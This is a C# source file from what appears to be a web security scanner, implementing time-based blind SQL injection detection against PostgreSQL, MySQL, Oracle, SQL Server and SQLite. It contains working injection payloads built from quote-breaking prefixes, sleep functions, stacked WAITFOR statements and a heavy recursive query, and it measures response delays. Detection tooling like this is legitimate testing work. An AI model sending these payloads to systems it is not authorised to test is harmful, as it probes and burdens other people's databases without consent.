using System.Globalization;
using Assay.Probe.Answers;
using Assay.Probe.Places;
using Assay.Probe.Transport;

namespace Assay.Probe.Probes.Database;

/// <summary>The database waits as long as it is told to.</summary>
internal static class SqlByTime
{
    // Each delay stands in a subquery of its own, so that it happens once and not for every row.
    private static readonly (string Database, string Condition)[] Conditions =
    [
        ("PostgreSQL", "(SELECT 1 FROM pg_sleep({0})) IS NULL"),
        ("MySQL", "(SELECT 1 FROM (SELECT SLEEP({0}))x)=2"),
        ("Oracle", "(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{0}) FROM dual)=5"),
    ];

    private static readonly (string Database, string Statement)[] Statements =
    [
        ("SQL Server", ";WAITFOR DELAY '0:0:{0:00}'-- "),
        ("PostgreSQL", ";SELECT pg_sleep({0})-- "),
        ("MySQL", ";SELECT SLEEP({0})-- "),
    ];

    // They leave the value as it is: fit for statements that write.
    private static readonly (string Database, string Text)[] Values =
    [
        ("PostgreSQL", "{0}'||(SELECT '' FROM pg_sleep({1}))||'"),
        ("MySQL", "{0}'+(SELECT 0 FROM (SELECT SLEEP({1}))x)+'"),
        ("Oracle", "{0}'||CASE DBMS_PIPE.RECEIVE_MESSAGE('zq',{1}) WHEN 5 THEN 'z' END||'"),
        ("PostgreSQL", "{0}+(SELECT 0 FROM pg_sleep({1}))"),
        ("MySQL", "{0}+(SELECT 0 FROM (SELECT SLEEP({1}))x)"),
    ];

    private const long SomeWork = 1_000_000;
    private const int Measurements = 3;
    private const string Work = "(WITH RECURSIVE c(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM c LIMIT {0}) SELECT {1} FROM c)";

    private static readonly string[] Heads = ["{0}'", "{0}')", "{0}"];

    public static async Task<SqlProof?> TryAsync(Foothold target)
    {
        if (!Delay.CanShow(target.Control.Answer))
        {
            return null;
        }

        foreach (var (database, text) in Values.Where(v => target.IsNumeric || v.Text.Contains("{0}'", StringComparison.Ordinal)))
        {
            if (await SleepsAsync(target, d => Text(text, target.Value, d), database) is { } proof)
            {
                return proof;
            }
        }

        if (await WorksAsync(target, n => $"{target.Value}'||{Text(Work, n, "substr(COUNT(*),1,0)")}||'") is { } worked)
        {
            return worked;
        }

        return target.MayAsk ? await AskAsync(target) : null;
    }

    private static async Task<SqlProof?> AskAsync(Foothold target)
    {
        foreach (var head in Heads.Where(h => target.IsNumeric || h.Contains('\'')).Select(h => Text(h, target.Value)))
        {
            foreach (var (database, condition) in Conditions)
            {
                if (await SleepsAsync(target, d => $"{head} OR {Text(condition, d)}-- ", database) is { } proof)
                {
                    return proof;
                }
            }

            foreach (var (database, statement) in Statements)
            {
                if (await SleepsAsync(target, d => head + Text(statement, d), database) is { } proof)
                {
                    return proof;
                }
            }

            if (await WorksAsync(target, n => $"{head} OR {Text(Work, n, "COUNT(*)")}=2-- ") is { } worked)
            {
                return worked;
            }
        }

        return null;
    }

    private static string Text(string form, params object[] values) => string.Format(CultureInfo.InvariantCulture, form, values);

    private static async Task<SqlProof?> SleepsAsync(Foothold target, Func<int, string> text, string database) =>
        await Delay.ProveAsync(d => target.SendAsync(text(d))) is { } attack
            ? new SqlProof(attack, $"{database} waited 1, 3 and 2 seconds as it was told, and not at all in between")
            : null;

    // SQLite cannot wait, but it can be made to work: four times the work takes much longer.
    private static async Task<SqlProof?> WorksAsync(Foothold target, Func<long, string> text)
    {
        // A busy machine spoils a measurement now and then: what looks like work is measured again before it is given up.
        for (var attempt = 0; attempt < Measurements; attempt++)
        {
            var first = await target.SendAsync(text(SomeWork));
            var quick = await target.SendAsync(text(1));
            if (first.Answer.Elapsed < TimeSpan.FromMilliseconds(100) || first.Answer.Elapsed < quick.Answer.Elapsed * 4)
            {
                return null;
            }

            if (await GrowsAsync(target, text, first.Answer.Elapsed) is { } proof)
            {
                return proof;
            }
        }

        return null;
    }

    // Two rounds: what is slow by chance is not slow in this order four times.
    private static async Task<SqlProof?> GrowsAsync(Foothold target, Func<long, string> text, TimeSpan some)
    {
        Exchange? more = null;
        var quick = TimeSpan.Zero;
        for (var round = 0; round < 2; round++)
        {
            more = await target.SendAsync(text(4 * SomeWork));
            quick = (await target.SendAsync(text(1))).Answer.Elapsed;
            if (more.Answer.Failure != SendFailure.None || more.Answer.Elapsed <= some * 2 || more.Answer.Elapsed <= TimeSpan.FromMilliseconds(300) || quick * 4 >= some)
            {
                return null;
            }
        }

        return new SqlProof(more!, $"the database worked {some.TotalMilliseconds:N0} ms and, told to do four times as much, {more!.Answer.Elapsed.TotalMilliseconds:N0} ms; with nothing to do it took {quick.TotalMilliseconds:N0} ms");
    }
}
